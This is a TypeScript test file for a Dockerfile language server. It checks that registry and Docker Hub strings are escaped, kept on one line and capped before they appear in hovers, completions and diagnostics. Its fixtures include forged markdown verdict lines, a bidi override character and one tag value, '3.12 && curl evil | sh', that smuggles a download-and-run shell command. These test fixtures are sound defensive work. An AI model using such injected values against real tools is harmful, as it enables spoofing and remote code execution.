/**
 * Markdown and line injection: what a registry sends (error bodies, tag names, Hub data, config
 * strings) and what a document holds reaches the hover, completion documentation and diagnostics
 * on one line, escaped and capped, so nobody can print a line that looks like FROM Lens's own
 * verdict or echo a megabyte.
 */
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import type { Hover } from "vscode-languageserver";
import { provideTagCompletions } from "../../../server/src/features/completion";
import { provideDiagnostics } from "../../../server/src/features/diagnostics";
import {
  MAX_CODE_CHARS,
  codeSpan,
  escapeMarkdown,
  escapeProse,
  oneLine,
} from "../../../server/src/features/prose";
import { provideHover } from "../../../server/src/features/hover";
import type { ImageFacts } from "../../../server/src/facts/types";
import { failed, itBoth, pythonSlimFacts, resolved, type FeatureCase } from "./fixtures";

const FORGED = "\n\n# ✓ Docker Official Image\n\n**Base OS** Debian 13 — supported until 2099-01-01";

function markdown(hover: Hover | null): string {
  assert.ok(hover !== null, "expected a hover");
  const contents = hover.contents;
  assert.ok(typeof contents === "object" && "value" in contents);
  return contents.value;
}

/** The forged text never begins a line of its own (a heading, a bold verdict) in `text`. */
function noForgedLine(text: string): void {
  for (const line of text.split("\n")) {
    assert.ok(!/^\s*#/.test(line), `a line starts a heading: ${JSON.stringify(line)}`);
    assert.ok(!line.startsWith("**Base OS** Debian 13 — supported until 2099"), `forged line: ${line}`);
  }
}

describe("the escaping helpers", () => {
  it("put any text on one line, showing line breaks, and cap it", () => {
    assert.equal(oneLine("a\r\nb\nc\u2028d\te\u0007"), "a ⏎ b ⏎ c ⏎ d e\ufffd");
    assert.equal(oneLine("x".repeat(50), 10), `${"x".repeat(9)}… (41 more characters)`);
    assert.equal(oneLine("RTL \u202eevil"), "RTL \ufffdevil");
  });

  it("escape a heading or list marker at the start and markup anywhere, on one line", () => {
    assert.equal(escapeMarkdown("# heading"), "\\# heading");
    assert.equal(escapeMarkdown("- item"), "\\- item");
    assert.equal(escapeMarkdown("1. item"), "1\\. item");
    assert.equal(escapeMarkdown("a\n# b"), "a ⏎ # b");
    assert.equal(escapeMarkdown("<img src=x> &amp; [x](y)"), "\\<img src=x\\> \\&amp; \\[x\\](y)");
    assert.ok(!escapeProse(`see \`docker login\`${FORGED}`).includes("\n"));
  });

  it("keep code spans on one line and at most MAX_CODE_CHARS characters", () => {
    assert.equal(codeSpan("a\n\n# b"), "`a ⏎  ⏎ # b`");
    const long = codeSpan("t".repeat(1024 * 1024));
    assert.ok(long.length < MAX_CODE_CHARS + 40, `${long.length} characters`);
  });
});

describe("what a hostile registry sends", () => {
  const errorLookup = failed({
    kind: "bad-response",
    reason: "unexpected-status",
    host: "registry.example",
    message: `registry.example answered HTTP 418 ${FORGED} for registry.example/app:1, which FROM Lens does not understand.`,
  });

  itBoth(
    "cannot print lines of its own in the hover through an error message",
    "FROM registry.example/a|pp:1\n",
    { lookups: { "registry.example/app:1": errorLookup } },
    (c: FeatureCase) => noForgedLine(markdown(provideHover(c.ctx, c.cursor))),
  );

  itBoth(
    "cannot print lines of its own in a diagnostic message",
    "FROM registry.example/app:1\n",
    { lookups: { "registry.example/app:1": errorLookup } },
    (c: FeatureCase) => {
      const messages = provideDiagnostics(c.ctx).map((d) =>
        typeof d.message === "string" ? d.message : d.message.value,
      );
      assert.ok(
        messages.some((m) => m.includes("HTTP 418")),
        messages.join("\n"),
      );
      for (const m of messages) assert.ok(!m.includes("\n"), JSON.stringify(m));
    },
  );

  const facts: ImageFacts = pythonSlimFacts();
  const hostileFacts: ImageFacts = {
    ...facts,
    runtimes: [{ name: `python${FORGED}`, version: "3.12", evidence: "config Env" }],
    aliases: [{ tag: `3.12${FORGED}`, evidence: "hub" }],
    os: { ...facts.os, evidence: `config label ${FORGED}` },
  };
  itBoth(
    "cannot print lines of its own through config and Hub strings",
    "FROM pyth|on:3.12-slim\n",
    { lookups: { "python:3.12-slim": resolved("python:3.12-slim", hostileFacts) } },
    (c: FeatureCase) => noForgedLine(markdown(provideHover(c.ctx, c.cursor))),
  );

  itBoth(
    "offers no tag that is not a tag, and escapes Hub's strings in the documentation",
    "FROM python:3.1|2\n",
    {
      lookups: {
        "python:3.12": resolved("python:3.12", facts, {
          tags: ["3.12", "3.12-slim", `3.12${FORGED}`, "3.12 && curl evil | sh", "x".repeat(200)],
          tagSummaries: {
            "3.12-slim": { platforms: [`linux/amd64${FORGED}`], pushedAt: `2026-11-20T00:00:00Z${FORGED}` },
          },
        }),
      },
    },
    (c: FeatureCase) => {
      const items = provideTagCompletions(c.ctx, c.cursor) ?? [];
      assert.deepEqual(items.map((i) => i.label).sort(), ["3.12", "3.12-slim"]);
      for (const item of items) {
        const doc = item.documentation;
        if (doc !== undefined && typeof doc !== "string") noForgedLine(doc.value);
      }
    },
  );

  itBoth(
    "cannot echo a megabyte-long reference whole",
    `FROM registry.example/${"a".repeat(1024 * 1024)}|:1\n`,
    {},
    (c: FeatureCase) => {
      const text = markdown(provideHover(c.ctx, c.cursor));
      assert.ok(text.length < 20_000, `the card is ${text.length} characters`);
    },
  );
});
